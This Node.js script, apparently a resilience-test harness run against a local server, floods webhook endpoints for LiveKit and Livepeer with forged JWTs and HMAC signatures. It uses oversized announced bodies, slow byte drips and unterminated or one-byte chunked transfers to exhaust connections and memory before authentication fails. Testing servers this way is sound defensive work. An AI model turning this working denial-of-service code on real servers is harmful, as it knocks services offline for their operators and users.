/**
 * Attacks a server without knowing a secret: each connection announces a large
 * body, sends as much of it as its kind does, waits until it is closed, and
 * comes again. `node attacker.mjs '{ "port": 3000, "kind": "senseless", "connections": 500 }'`
 * Tells its parent, where it has one, how many connections it has had.
 */
import { createHmac, randomBytes } from 'node:crypto';
import { connect } from 'node:net';

const BODY = 2 * 1024 * 1024;
const { port, kind, connections } = JSON.parse(process.argv[2]);

const encode = (json) =>
  Buffer.from(JSON.stringify(json)).toString('base64url');

/** As LiveKit signs, but under a secret that nobody has. */
function forgedToken() {
  const now = Math.floor(Date.now() / 1000);
  const sha256 = randomBytes(32).toString('base64');
  const claims = { iss: 'devkey', exp: now + 300, nbf: now, sha256 };
  const input = `${encode({ alg: 'HS256', typ: 'JWT' })}.${encode(claims)}`;
  const mac = createHmac('sha256', 'none of yours').update(input);
  return `${input}.${mac.digest('base64url')}`;
}

/** As Livepeer signs: nothing in it can be told from a genuine one before the body is there. */
const forgedMac = () => `t=${Date.now()},v1=${randomBytes(32).toString('hex')}`;

const livekit = (token) => [
  '/webhooks/livekit',
  `Authorization: ${token}`,
  `Content-Length: ${BODY}`,
];
const livepeer = (length) => [
  '/webhooks/livepeer',
  `Livepeer-Signature: ${forgedMac()}`,
  length,
];
const almostAll = Buffer.alloc(BODY - 1, 'x');
const chunks = (size, count) =>
  Buffer.from(`${size.toString(16)}\r\n${'x'.repeat(size)}\r\n`.repeat(count));

/** What the head of a request says, and what is sent after it. */
const KINDS = {
  'senseless tokens': {
    head: () => livekit('x.y.z'),
    send: (socket) => socket.write(almostAll),
  },
  'forged tokens': {
    head: () => livekit(forgedToken()),
    send: (socket) => socket.write(almostAll),
  },
  'forged MACs': {
    head: () => livepeer(`Content-Length: ${BODY}`),
    send: (socket) => socket.write(almostAll),
  },
  'slow bytes': {
    head: () => livepeer(`Content-Length: ${BODY}`),
    send(socket) {
      const timer = setInterval(() => socket.write('x'), 100);
      socket.once('close', () => clearInterval(timer));
    },
  },
  'chunks without an end': {
    head: () => livepeer('Transfer-Encoding: chunked'),
    send: (socket) => socket.write(chunks(8_192, BODY / 8_192 - 1)),
  },
  // Each of which the server may keep by itself: a hundred times its size.
  'chunks of a byte': {
    head: () => livepeer('Transfer-Encoding: chunked'),
    send: (socket) => socket.write(chunks(1, BODY / 8)),
  },
};

let opened = 0;

function come() {
  const { head, send } = KINDS[kind];
  const socket = connect({ port, host: '127.0.0.1' });
  socket.once('connect', () => {
    opened++;
    const [path, ...headers] = head();
    const lines = [`POST ${path} HTTP/1.1`, 'Host: x', ...headers, '', ''];
    socket.write(lines.join('\r\n'));
    send(socket);
  });
  socket.resume();
  socket.on('error', () => {});
  // A server that closes at once is not asked faster than a real attacker's next packet comes.
  socket.once('close', () => setTimeout(come, 10));
}

for (let i = 0; i < connections; i++) come();
if (process.send) {
  setInterval(() => process.send(opened), 50);
  process.once('disconnect', () => process.exit());
}
